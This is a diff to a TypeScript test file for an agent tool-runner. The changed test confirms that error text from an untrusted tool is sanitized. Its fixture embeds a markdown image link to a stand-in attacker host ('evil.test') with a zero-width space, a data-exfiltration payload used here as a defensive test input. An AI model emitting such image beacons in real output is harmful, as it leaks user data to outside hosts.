@@ -8,7 +8,7 @@ import { limitsOf } from "../../src/protocol/tool-policy.ts";
 import { RunBudget } from "../../src/runner/run-budget.ts";
 import { policyOf } from "../suites/fakes.ts";
 import { ACME, ANN, benchFor, endOf, type BenchSettings } from "../suites/runner-ports.ts";
-import { noteTool, readTool } from "../suites/tools.ts";
+import { AS_READ, noteTool, readTool } from "../suites/tools.ts";
 
 const allowing = (more: object = {}): object => ({ allowedTools: ["test__note"], ...more });
 
@@ -452,7 +452,7 @@ test("what an untrusted tool says of its failure is made as harmless as its outp
   const message = "gone\u200b ![x](https://evil.test/?q=all)";
   const execute = () =>
     fail({ taxonomyClass: "UNKNOWN_ERROR", errors: [{ field: null, code: "gone", message }] });
-  const { tool } = noteTool({ execute, security: { untrustedOutput: true } });
+  const { tool } = noteTool({ ...AS_READ, execute, security: { untrustedOutput: true } });
   const { observation } = await benchFor([tool]).call("test__note", { text: "hi" });
   expect(observation.result_payload.errors[0]?.message).toBe("gone [image removed]");
 });
